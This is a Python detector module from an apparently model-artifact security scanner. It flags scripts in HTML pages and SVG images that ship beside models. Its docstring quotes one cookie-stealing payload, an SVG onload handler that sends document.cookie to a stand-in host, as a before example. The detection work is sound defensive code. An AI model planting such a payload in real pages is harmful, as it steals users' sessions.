"""A page or picture beside a model runs a script when it is opened.

Model cards, reports and pictures are opened in a browser, sometimes one that is logged in to
a notebook server or a hub. Reports bring charts with their scripts, so a script in a page is
only noted; one that sends cookies away, drives a notebook's kernel, runs decoded text or asks
for a password on behalf of another host fails. A picture needs no script at all: one
in an SVG, a handler or a ``javascript:`` link in it fails.

Before: ``<svg onload="fetch('https://host/?' + document.cookie)">``.
After: the picture without the handler, or as PNG.

Sources: CWE-79; SVG 2, scripting; HTML Living Standard; OWASP, XSS filter evasion.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Final

from modelkeep.core import Finding, Rule, Severity
from modelkeep.scan.interface import Context, Detector
from modelkeep.scan.markup_policy import (
    asks_for_password,
    scripts_of,
    theft,
    without_quotes,
)

RULE: Final = Rule(
    id="WEB001",
    name="page-runs-script",
    summary="Opening a page or picture that comes with the model would run a script.",
    remedy="Do not open it in a browser; remove the script, or turn the picture into PNG.",
    topic="artifact.malicious_code",
    tags=("CWE-79",),
)
_LONGEST: Final = 8 << 20
_MARKUP: Final = re.compile(rb"<\x00?[a-zA-Z!]")
_PICTURE: Final = re.compile(
    r"\ufeff?\s*(?:<\?xml[^>]*\?>\s*|<!--(?:(?!-->)[\s\S]){0,4000}-->\s*"
    r"|<!DOCTYPE\s+svg[^>]*>\s*)*<(?:[\w-]+:)?svg\b",
    re.IGNORECASE,
)
_PAGE: Final = re.compile(
    r"\ufeff?\s*(?:<!--(?:(?!-->)[\s\S]){0,4000}-->\s*)*<(?:!DOCTYPE\s+html|html|head|body|div"
    r"|script)\b",
    re.IGNORECASE,
)


def run(context: Context) -> Iterator[Finding]:
    """Yield the worst script of a page or picture, if it has any."""
    text = _text(context)
    if text is None:
        return
    if _PICTURE.match(text[:20_000]):
        for script in scripts_of(text):
            why = theft(script) or "is a script, which no picture needs"
            yield _finding(context, Severity.HIGH, f"the picture holds what {why}", script)
            break
        return
    shown = text if _PAGE.match(text[:20_000]) else without_quotes(text)
    first: str | None = None
    for script in scripts_of(shown):
        steals = theft(script)
        if steals is not None:
            yield _finding(context, Severity.HIGH, f"a script of the page {steals}", script)
            return
        first = first or script
    if asks_for_password(shown):
        yield _finding(context, Severity.HIGH, "a form sends a password to another host", "")
    elif first is not None:
        yield _finding(context, Severity.INFO, "the page runs scripts", first)


def _text(context: Context) -> str | None:
    """The stream as text if there may be markup in it."""
    if context.source.size > _LONGEST:
        raw = context.source.read(0, _LONGEST)
    else:
        raw = context.source.read(0, context.source.size)
    if _MARKUP.search(raw) is None:
        return None
    if raw.startswith((b"\xff\xfe", b"\xfe\xff")):
        return raw.decode("utf-16", "replace")
    return None if b"\0" in raw[:4096] else raw.decode("utf-8", "replace")


def _finding(context: Context, severity: Severity, message: str, script: str) -> Finding:
    shown = " ".join(script.split())[:80]
    told = f"{message}: {shown!r}" if shown else message
    return context.finding(RULE, severity, told, evidence={"script": shown})


DETECTOR: Final = Detector(RULE, frozenset({"text", "yaml", "xml"}), run)
